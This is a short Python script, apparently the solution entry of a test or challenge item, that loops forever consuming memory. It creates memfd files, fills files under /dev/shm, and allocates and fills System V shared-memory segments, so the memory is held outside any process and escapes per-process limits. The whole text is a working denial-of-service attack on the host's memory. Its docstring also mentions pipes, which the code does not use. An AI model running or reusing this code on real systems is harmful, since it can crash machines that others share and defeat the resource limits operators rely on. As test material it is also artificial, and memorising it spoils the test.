"""Memory is taken where no process has it: memfd, /dev/shm, System V segments, pipes."""
# solves = []
# keeps = []

# %% words-solution
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
block = b"x" * 2**20
files = []
while True:
    try:
        files.append(os.memfd_create("siege"))
        for _ in range(512):
            os.write(files[-1], block)
    except OSError:
        pass
    try:
        with open(f"/dev/shm/__MARK__-{len(files)}", "wb") as file:
            for _ in range(512):
                file.write(block)
    except OSError:
        pass
    identifier = libc.shmget(0, 2**28, 0o1600)
    if identifier >= 0:
        libc.shmat.restype = ctypes.c_void_p
        place = libc.shmat(identifier, None, 0)
        if place and place != 2**64 - 1:
            ctypes.memset(place, 1, 2**28)
